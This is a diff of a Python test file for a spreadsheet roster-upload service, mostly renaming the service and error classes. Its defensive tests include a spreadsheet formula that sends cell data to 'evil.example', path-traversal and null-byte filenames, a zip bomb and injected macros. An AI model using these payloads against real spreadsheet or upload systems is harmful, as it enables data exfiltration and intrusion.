@@ -17,13 +17,13 @@ from reader_service.errors import (
     Invalid,
     NotFound,
     OwnWork,
-    TooLarge,
+    RequestTooLarge,
     TooMany,
     Unavailable,
     UnreadableForm,
 )
 from reader_service.principal import Principal, Role
-from reader_service.services.rosters import RosterDesk
+from reader_service.services.rosters import RosterService
 from reader_service.services.uploads import FORMS, Uploads, pieces
 from registry.batches.reviews import ChangeKind
 from registry.errors import RegistryUnavailable
@@ -36,8 +36,8 @@ GOOD, BAD = [person(1), person(2)], person(3, phone="")
 
 
 @pytest.fixture
-def desk(office: Office) -> RosterDesk:
-    return RosterDesk(office.parts, office.bus)
+def desk(office: Office) -> RosterService:
+    return RosterService(office.parts, office.bus)
 
 
 def form(tmp_path: Path, *people: list[object], name: str = "form.xlsx") -> bytes:
@@ -45,7 +45,7 @@ def form(tmp_path: Path, *people: list[object], name: str = "form.xlsx") -> byte
 
 
 def test_a_form_becomes_a_draft_and_its_returned_rows_are_told(
-    office: Office, desk: RosterDesk, tmp_path: Path
+    office: Office, desk: RosterService, tmp_path: Path
 ) -> None:
     content = form(tmp_path, *GOOD, BAD)
     view = desk.upload(CLERK, "会员登记表.xlsx", pieces(io.BytesIO(content).read, 1000))
@@ -64,7 +64,7 @@ def test_a_form_becomes_a_draft_and_its_returned_rows_are_told(
     assert office.registry.originals.of(view.batch.id).content == content
 
 
-def test_findings_come_masked_and_in_pages(desk: RosterDesk, tmp_path: Path) -> None:
+def test_findings_come_masked_and_in_pages(desk: RosterService, tmp_path: Path) -> None:
     batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD, BAD)]).batch
     assert batch is not None
     first = desk.findings(AUDITOR, batch.id, None, 2)
@@ -79,7 +79,9 @@ def test_findings_come_masked_and_in_pages(desk: RosterDesk, tmp_path: Path) -> 
         desk.findings(REVIEWER, "B20261122-999")
 
 
-def test_the_annotated_copy_says_what_was_said_at_the_upload(office: Office, desk: RosterDesk, tmp_path: Path) -> None:
+def test_the_annotated_copy_says_what_was_said_at_the_upload(
+    office: Office, desk: RosterService, tmp_path: Path
+) -> None:
     batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD, BAD, person(1))]).batch
     assert batch is not None
     made = desk.annotated(CLERK, batch.id)
@@ -93,7 +95,9 @@ def test_the_annotated_copy_says_what_was_said_at_the_upload(office: Office, des
         desk.annotated(CLERK, batch.id)
 
 
-def test_a_form_of_which_nobody_passes_is_told_and_not_kept(office: Office, desk: RosterDesk, tmp_path: Path) -> None:
+def test_a_form_of_which_nobody_passes_is_told_and_not_kept(
+    office: Office, desk: RosterService, tmp_path: Path
+) -> None:
     content = form(tmp_path, BAD)
     view = desk.upload(CLERK, "form.xlsx", [content])
     assert (view.batch, view.rejected) == (None, 1)
@@ -102,7 +106,7 @@ def test_a_form_of_which_nobody_passes_is_told_and_not_kept(office: Office, desk
     assert sheet.cell(4, 7).value == "退回"
 
 
-def test_formulas_of_a_form_do_not_come_back(desk: RosterDesk, tmp_path: Path) -> None:
+def test_formulas_of_a_form_do_not_come_back(desk: RosterService, tmp_path: Path) -> None:
     evil = person(1)
     evil[2] = '=HYPERLINK("http://evil.example/?"&B4,"孙波磊")'
     sheet = load_workbook(
@@ -119,13 +123,13 @@ def test_formulas_of_a_form_do_not_come_back(desk: RosterDesk, tmp_path: Path) -
     "name",
     ["", "  ", "..", "../form.xlsx", "/etc/form.xlsx", "C:\\form.xlsx", "a\0b.xlsx", "a\nb.xlsx", "表" * 61 + ".xlsx"],
 )
-def test_a_name_that_names_a_place_is_refused(name: str, desk: RosterDesk, tmp_path: Path) -> None:
+def test_a_name_that_names_a_place_is_refused(name: str, desk: RosterService, tmp_path: Path) -> None:
     with pytest.raises(Invalid) as caught:
         desk.upload(CLERK, name, [form(tmp_path, *GOOD)])
     assert list(caught.value.fields) == ["file"]
 
 
-def test_what_is_no_form_is_refused_in_both_languages(desk: RosterDesk, tmp_path: Path) -> None:
+def test_what_is_no_form_is_refused_in_both_languages(desk: RosterService, tmp_path: Path) -> None:
     workbook = form(tmp_path, *GOOD)
     macros = io.BytesIO(workbook)
     with zipfile.ZipFile(macros, "a") as archive:
@@ -152,20 +156,20 @@ def test_what_is_too_large_is_refused_before_it_is_read(office: Office, tmp_path
             taken.append(1)
             yield b"x" * 1000
 
-    small = RosterDesk(office.parts, office.bus, uploads=Uploads(Limits(file_bytes=10_000)))
-    with pytest.raises(TooLarge, match="larger than"):
+    small = RosterService(office.parts, office.bus, uploads=Uploads(Limits(file_bytes=10_000)))
+    with pytest.raises(RequestTooLarge, match="larger than"):
         small.upload(CLERK, "form.csv", endless())  # type: ignore[arg-type]
     assert len(taken) == 11
     bomb = io.BytesIO(form(tmp_path, *GOOD))
     with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("xl/bomb.xml", b"\0" * (FORMS.unpacked_bytes + 1))
-    with pytest.raises(TooLarge, match="unpacks") as caught:
-        RosterDesk(office.parts, office.bus).upload(CLERK, "form.xlsx", [bomb.getvalue()])
+    with pytest.raises(RequestTooLarge, match="unpacks") as caught:
+        RosterService(office.parts, office.bus).upload(CLERK, "form.xlsx", [bomb.getvalue()])
     assert "解压" in str(caught.value.params["chinese"])
 
 
 def test_only_so_many_forms_are_read_at_once(office: Office, tmp_path: Path) -> None:
-    desk = RosterDesk(office.parts, office.bus, uploads=Uploads(at_once=1, patience=0.05))
+    desk = RosterService(office.parts, office.bus, uploads=Uploads(at_once=1, patience=0.05))
     content = form(tmp_path, *GOOD)
     inside, go_on = threading.Event(), threading.Event()
 
@@ -185,7 +189,9 @@ def test_only_so_many_forms_are_read_at_once(office: Office, tmp_path: Path) -> 
     assert len(office.registry.batches()) == 1
 
 
-def test_nothing_of_an_upload_is_left_behind(desk: RosterDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_nothing_of_an_upload_is_left_behind(
+    desk: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     where = tmp_path / "tmp"
     where.mkdir()
     monkeypatch.setattr("tempfile.tempdir", str(where))
@@ -196,7 +202,7 @@ def test_nothing_of_an_upload_is_left_behind(desk: RosterDesk, tmp_path: Path, m
 
 
 def test_the_same_form_twice_makes_one_batch(
-    office: Office, desk: RosterDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    office: Office, desk: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     content = form(tmp_path, *GOOD)
     desk.upload(CLERK, "form.xlsx", [content])
@@ -209,7 +215,7 @@ def test_the_same_form_twice_makes_one_batch(
 
 
 def test_a_form_goes_to_review_and_back_and_is_approved_by_another(
-    office: Office, desk: RosterDesk, tmp_path: Path
+    office: Office, desk: RosterService, tmp_path: Path
 ) -> None:
     batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
     assert batch is not None
@@ -240,7 +246,7 @@ def test_a_form_goes_to_review_and_back_and_is_approved_by_another(
     ]
 
 
-def test_nobody_approves_what_they_imported(office: Office, desk: RosterDesk, tmp_path: Path) -> None:
+def test_nobody_approves_what_they_imported(office: Office, desk: RosterService, tmp_path: Path) -> None:
     both = Principal("李 娜", frozenset({Role.REGISTRAR, Role.REVIEWER}))
     batch = desk.upload(both, "form.xlsx", [form(tmp_path, *GOOD)]).batch
     assert batch is not None
@@ -251,7 +257,7 @@ def test_nobody_approves_what_they_imported(office: Office, desk: RosterDesk, tm
 
 
 def test_what_is_given_back_while_it_is_approved_is_not_approved(
-    office: Office, desk: RosterDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    office: Office, desk: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     batch = desk.upload(CLERK, "form.xlsx", [form(tmp_path, *GOOD)]).batch
     assert batch is not None
@@ -270,7 +276,7 @@ def test_what_is_given_back_while_it_is_approved_is_not_approved(
     assert office.registry.batch(batch.id).state is BatchState.DRAFT
 
 
-def test_every_method_asks_who_it_is(desk: RosterDesk) -> None:
+def test_every_method_asks_who_it_is(desk: RosterService) -> None:
     for who in (NOBODY, COUNTER):
         for call in (
             lambda p: desk.upload(p, "f.csv", []),
@@ -292,7 +298,7 @@ def test_every_method_asks_who_it_is(desk: RosterDesk) -> None:
 
 
 def test_a_database_that_is_away_is_told_as_such(
-    office: Office, desk: RosterDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    office: Office, desk: RosterService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     def away(*_: object, **__: object) -> object:
         raise RegistryUnavailable("postgresql://user:hunter2@host is away")
